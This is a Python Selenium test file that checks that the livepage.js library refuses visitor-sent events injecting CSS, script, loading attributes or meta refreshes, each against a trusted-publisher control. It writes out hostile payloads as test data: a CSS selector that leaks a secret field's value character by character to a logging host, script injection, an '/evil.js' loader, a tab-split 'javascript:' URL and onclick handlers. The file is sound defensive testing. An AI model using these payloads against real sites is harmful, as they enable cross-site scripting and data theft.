"""Page input never becomes code (issue 11, findings 3 and 4): livepage.js refuses an
event from page input (one that carries `from`) that would put text inside a `script`,
`style` (HTML or SVG), `template`, `iframe`, `noscript` or `textarea`, or set an
attribute that loads or runs something, whatever server sent it. A trusted event (no
`from`: a publisher's, the application's) of the same kind is the control: it does
restyle, run or load, so each check would see the attack if it had worked.

The real server (pages/containment.html on another origin, as in test_verbs.py) checks
what a visitor can reach by default (`append`, `prepend`); the scripted server
(fake_livepage.py) sends what only a server whose application allowed more verbs, or a
faulty one, would send."""

from selenium.webdriver.common.by import By

from fake_livepage import Answer

LOCATION = "/containment"
BLUE, RED, GREEN = "rgb(0, 0, 255)", "rgb(255, 0, 0)", "rgb(0, 128, 0)"


def open_page(browser, page_origin, server_origin, query=""):
    browser.get(f"{page_origin}/containment.html?server={server_origin}{query}")
    browser.wait_js("window.LivePage && LivePage.hasClient", "the page never registered")
    browser.wait_state("connected")
    return browser


def register(server, principal=None):
    """A client at the page's location, for a visitor who attacks with plain HTTP."""
    body = {"location": LOCATION, **({"principal": principal} if principal else {})}
    return server.post_json("/livepage/clients", body)["client"]


def send(server, client, verb, **fields):
    answer = server.post_json(f"/livepage/clients/{client}/input", {"verb": verb, **fields})
    assert answer["delivered"] >= 1, answer
    return answer


def publish(server, events):
    """Publishes to the location; the page and the attackers' clients get it."""
    assert server.publish(LOCATION, events)["delivered"] >= len(events)


def color(page, element_id):
    return page.execute_script("return getComputedStyle(document.getElementById(arguments[0])).color", element_id)


def text(page, element_id):
    """The element's text, or None without it (or without the page: a refresh navigated)."""
    return page.execute_script("const e = document.getElementById(arguments[0]); return e && e.textContent",
                               element_id)


def wait_for_marker(page, marker):
    """Waits until `marker` was appended to #log: every event before it was applied."""
    page.wait(lambda p: marker in (text(p, "log") or ""),
              lambda: f"{marker!r} never arrived in #log: {text(page, 'log')!r} at {page.current_url}")


def expect_refusals(page, ids):
    """Each refused event left a console warning naming its element, and none failed."""
    warnings = page.execute_script("return window.warnings")
    for element_id in ids:
        assert any("#" + element_id in w and "refused" in w for w in warnings), (element_id, warnings)
    assert page.execute_script("return window.errors") == []
    assert page.state() == "connected"


def test_input_appended_to_a_style_element_restyles_nothing_and_leaks_nothing(
        livepage_server, browsers, static_pages, fake):
    server = livepage_server("--refresh", "2", "--grace", "1", "--allowed-origin", static_pages)
    page = open_page(browsers(), static_pages, server.origin, "&principal=alice")
    assert color(page, "victim") == BLUE and color(page, "victim2") == BLUE
    mallory, anonymous = register(server, "mallory"), register(server)
    leak = fake.origin  # any request to it is logged

    # Restyle the page, and read the secret field's value one character at a time.
    css = "#victim{color:rgb(255,0,0)} #secret[value^=s]{background-image:url(%s/leak-s)}" % leak
    send(server, mallory, "append", id="theme", html=css)
    send(server, anonymous, "prepend", id="svgtheme", html="#victim2{color:rgb(255,0,0)}")
    send(server, mallory, "append", id="log", html="done")
    wait_for_marker(page, "done")

    # The control: a publisher's stylesheet text is applied, and its image loaded.
    control = "#control{color:rgb(0,128,0);background-image:url(%s/control)}" % leak
    publish(server, [{"verb": "append", "id": "theme", "html": control}])
    fake.wait_for(lambda f: f.of_kind("/control"), "the control's image was never requested")
    page.wait(lambda p: color(p, "control") == GREEN, "the control stylesheet text never applied")

    assert color(page, "victim") == BLUE, "visitor text restyled the page"
    assert color(page, "victim2") == BLUE, "visitor text restyled the page through an SVG <style>"
    assert fake.of_kind("/leak-s") == [], "a CSS selector leaked the secret field's value"
    assert text(page, "theme") == "#victim { color: rgb(0, 0, 255); }" + control
    assert text(page, "svgtheme") == "#victim2 { color: rgb(0, 0, 255); }"
    expect_refusals(page, ["theme", "svgtheme"])


def test_input_appended_to_an_empty_script_does_not_run(livepage_server, browsers, static_pages):
    server = livepage_server("--refresh", "2", "--grace", "1", "--allowed-origin", static_pages)
    page = open_page(browsers(), static_pages, server.origin)
    mallory, anonymous = register(server, "mallory"), register(server)

    send(server, mallory, "append", id="late", html="window.__pwned = 'html'")
    send(server, anonymous, "prepend", id="svglate", html="window.__svgPwned = 'svg'")
    send(server, mallory, "append", id="log", html="done")
    wait_for_marker(page, "done")

    # The control: a publisher's text in an empty script runs.
    publish(server, [{"verb": "text", "id": "late2", "text": "window.__control = 1"}])
    page.wait_js("window.__control === 1", "the control script never ran")

    ran = page.execute_script("return [window.__pwned, window.__svgPwned]")
    assert ran == [None, None], f"visitor text ran as script: {ran}"
    assert text(page, "late") == "" and text(page, "svglate") == ""
    expect_refusals(page, ["late", "svglate"])


def events(*items):
    """One answer holding `items`, numbered from seq 1."""
    return Answer(200, {"events": [{"seq": seq, **item} for seq, item in enumerate(items, start=1)]})


def test_attribute_from_input_cannot_turn_a_data_block_into_script(fake, browsers):
    # A server whose application allowed `attribute` from input (or any server that
    # sends such an event): livepage.js still refuses these names.
    fake.serve("/evil.js", "window.__pwned = (window.__pwned || 0) + 1;")
    fake.serve("/control.js", "window.__control = 1;")
    page = open_page(browsers(), fake.origin, fake.origin)
    fake.script("output", events(
        {"verb": "attribute", "id": "state", "name": "type", "value": "module", "from": None},
        {"verb": "attribute", "id": "state", "name": "src", "value": "/evil.js", "from": "mallory"},
        {"verb": "attribute", "id": "state2", "name": "TYPE", "value": "text/javascript", "from": "mallory"},
        {"verb": "attribute", "id": "state2", "name": "Src", "value": "/evil.js", "from": "mallory"},
        {"verb": "attribute", "id": "box", "name": "imagesrcset", "value": "/leak.png 1x", "from": "mallory"},
        {"verb": "attribute", "id": "box", "name": "onclick", "value": "window.__pwned = 9", "from": None},
        {"verb": "attribute", "id": "box", "name": "data-note", "value": "plain", "from": "mallory"},
        {"verb": "append", "id": "log", "html": "done", "from": "mallory"},
    ))
    wait_for_marker(page, "done")

    # The control, from a trusted sender (no `from`): the same attributes do load a script.
    fake.script("output", Answer(200, {"events": [
        {"seq": 11, "verb": "attribute", "id": "late2", "name": "type", "value": "module"},
        {"seq": 12, "verb": "attribute", "id": "late2", "name": "src", "value": "/control.js"},
    ]}))
    page.wait_js("window.__control === 1", "the control script never ran")

    assert page.execute_script("return window.__pwned") is None, "an attribute from input ran a script"
    assert fake.of_kind("/evil.js") == []
    assert attributes(page, "state", "state2", "box") == [
        "id=state type=application/json", "id=state2 type=application/json", "data-note=plain id=box"]
    assert text(page, "state") == '{"answer": 42}'
    expect_refusals(page, ["state", "state2", "box"])


def test_attribute_from_input_cannot_make_a_meta_refresh(fake, browsers):
    page = open_page(browsers(), fake.origin, fake.origin)
    fake.script("output", events(
        {"verb": "attribute", "id": "meta", "name": "content", "value": "0;url=/refreshed", "from": "mallory"},
        {"verb": "attribute", "id": "meta", "name": "HTTP-EQUIV", "value": "refresh", "from": None},
        {"verb": "append", "id": "log", "html": "done", "from": "mallory"},
    ))
    wait_for_marker(page, "done")
    # The control: a publisher's refresh does navigate (to a page that says so).
    fake.serve("/refreshed", "<!doctype html><title>refreshed</title>", kind="text/html")
    fake.script("output", Answer(200, {"events": [
        {"seq": 4, "verb": "attribute", "id": "meta", "name": "http-equiv", "value": "refresh"},
        {"seq": 5, "verb": "attribute", "id": "meta", "name": "content", "value": "0;url=/refreshed?control=1"},
    ]}))
    fake.wait_for(lambda f: f.of_kind("/refreshed"), "the control refresh never navigated")
    assert [r.query for r in fake.of_kind("/refreshed")] == [{"control": "1"}], "input made a meta refresh"


def attributes(page, *ids):
    """Each element's attributes as sorted `name=value` words."""
    return page.execute_script(
        "return arguments[0].map(id =>"
        "  Array.from(document.getElementById(id).attributes, a => a.name + '=' + a.value).sort().join(' '))",
        list(ids))


#: Every way an input event could put text inside an element whose text is code or not
#: page content: (verb, element id, the element whose text must not change).
SEALED_TARGETS = [
    ("append", "theme", "theme"), ("prepend", "late", "late"), ("update", "svgtheme", "svgtheme"),
    ("text", "svglate", "svglate"), ("append", "tpl", "tpl"), ("update", "ns", "ns"),
    ("append", "frame", "frame"), ("text", "notes", "notes"), ("append", "state", "state"),
    ("after", "svginner", "svgtheme2"), ("before", "svginner", "svgtheme2"), ("replace", "svginner", "svgtheme2"),
]


def test_no_verb_from_input_writes_into_a_sealed_element(fake, browsers):
    payload = "#victim{color:rgb(255,0,0)} window.__pwned = 1"
    sent = []
    for verb, target, _ in SEALED_TARGETS:
        field = "text" if verb == "text" else "html"
        sent.append({"verb": verb, "id": target, field: payload, "from": "mallory"})
    sent.append({"verb": "remove", "id": "late2", "from": "mallory"})
    # Elements in input's HTML (a trusted input verb's) replace those with their id only
    # where input may touch them.
    sent.append({"verb": "append", "id": "log", "html": '<b id="late2">x</b>', "from": "mallory"})
    sent.append({"verb": "attribute", "id": "theme", "name": "media", "value": "print", "from": "mallory"})
    # Ordinary elements still take input.
    sent.append({"verb": "text", "id": "box", "text": payload, "from": "mallory"})
    sent.append({"verb": "after", "id": "svgrect", "html": "beside", "from": None})
    sent.append({"verb": "append", "id": "log", "html": "done", "from": "mallory"})
    page = open_page(browsers(), fake.origin, fake.origin)
    before = {changed: text(page, changed) for _, _, changed in SEALED_TARGETS}
    fake.script("output", events(*sent))
    wait_for_marker(page, "done")

    for verb, target, changed in SEALED_TARGETS:
        assert text(page, changed) == before[changed], f"{verb} #{target} from input changed #{changed}"
    assert page.find_elements(By.ID, "svginner") != []
    assert page.execute_script("return document.getElementById('late2').localName") == "script"
    assert page.execute_script("return document.getElementById('theme').getAttribute('media')") is None
    assert text(page, "box") == payload
    assert page.execute_script("return document.getElementById('svgrect').nextSibling.textContent") == "beside"
    assert color(page, "victim") == BLUE
    assert page.execute_script("return typeof window.__pwned") == "undefined"
    assert page.execute_script("return LivePage.after") == len(sent), "a refused event's seq was not counted"
    expect_refusals(page, [target for _, target, _ in SEALED_TARGETS] + ["late2", "log"])


def test_input_cannot_take_away_a_sealed_element_with_its_container(fake, browsers):
    """Where an application allows update, replace, text or remove from input, they may
    not empty or remove an element that holds a stylesheet, a script or a data block."""
    sent = [{"verb": verb, "id": "holder", field: "x", "from": "mallory"}
            for verb, field in (("update", "html"), ("replace", "html"), ("text", "text"), ("morph", "html"))]
    sent.append({"verb": "remove", "id": "holder", "from": "mallory"})
    sent.append({"verb": "append", "id": "log", "html": "done", "from": "mallory"})
    page = open_page(browsers(), fake.origin, fake.origin)
    fake.script("output", events(*sent))
    wait_for_marker(page, "done")
    assert page.execute_script("return document.getElementById('heldtheme') !== null"), "input removed a stylesheet"
    assert page.execute_script("return document.querySelector('#holder p').textContent") == "held"
    expect_refusals(page, ["holder"])


def test_the_page_may_allow_attributes_from_input_by_name(fake, browsers):
    page = open_page(browsers(), fake.origin, fake.origin, "&inputAttributes=HREF,onclick")
    fake.script("output", events(
        {"verb": "attribute", "id": "link", "name": "href", "value": "https://example.com/a", "from": "bob"},
        {"verb": "attribute", "id": "box", "name": "href", "value": "java\tscript:window.__pwned = 1", "from": "bob"},
        {"verb": "attribute", "id": "box", "name": "onclick", "value": "window.__pwned = 1", "from": "bob"},
        {"verb": "attribute", "id": "box", "name": "style", "value": "color: red", "from": "bob"},
        {"verb": "attribute", "id": "box", "name": "title", "value": "a title", "from": "bob"},
        {"verb": "append", "id": "log", "html": "done", "from": "bob"},
    ))
    wait_for_marker(page, "done")

    assert page.execute_script("return document.getElementById('link').getAttribute('href')") == "https://example.com/a"
    set = attributes(page, "box")
    assert set == ["id=box title=a title"], f"a script URL, a handler or an unlisted name was set: {set}"
    page.execute_script("document.getElementById('box').click()")
    assert page.execute_script("return typeof window.__pwned") == "undefined"
    expect_refusals(page, ["box"])


def test_a_trusted_publisher_keeps_full_power(livepage_server, browsers, static_pages):
    server = livepage_server("--refresh", "2", "--grace", "1", "--allowed-origin", static_pages)
    page = open_page(browsers(), static_pages, server.origin)
    published = [
        {"verb": "append", "id": "theme", "html": "#victim{color:rgb(0,128,0)}"},
        {"verb": "update", "id": "svgtheme", "html": "#victim2{color:rgb(0,128,0)}"},
        {"verb": "text", "id": "late", "text": "window.__published = 1"},
        {"verb": "attribute", "id": "state", "name": "type", "value": "module"},
        {"verb": "attribute", "id": "state", "name": "src", "value": "data:text/javascript,window.__module = 1"},
        {"verb": "text", "id": "notes", "text": "from the publisher"},
        {"verb": "attribute", "id": "meta", "name": "content", "value": "published"},
    ]
    publish(server, published)
    page.wait_js("window.__module === 1", "the published module never ran")
    assert color(page, "victim") == GREEN and color(page, "victim2") == GREEN
    assert page.execute_script("return window.__published") == 1
    assert page.execute_script("return document.getElementById('notes').value") == "from the publisher"
    assert page.execute_script("return document.getElementById('meta').content") == "published"
    assert page.execute_script("return window.warnings") == []
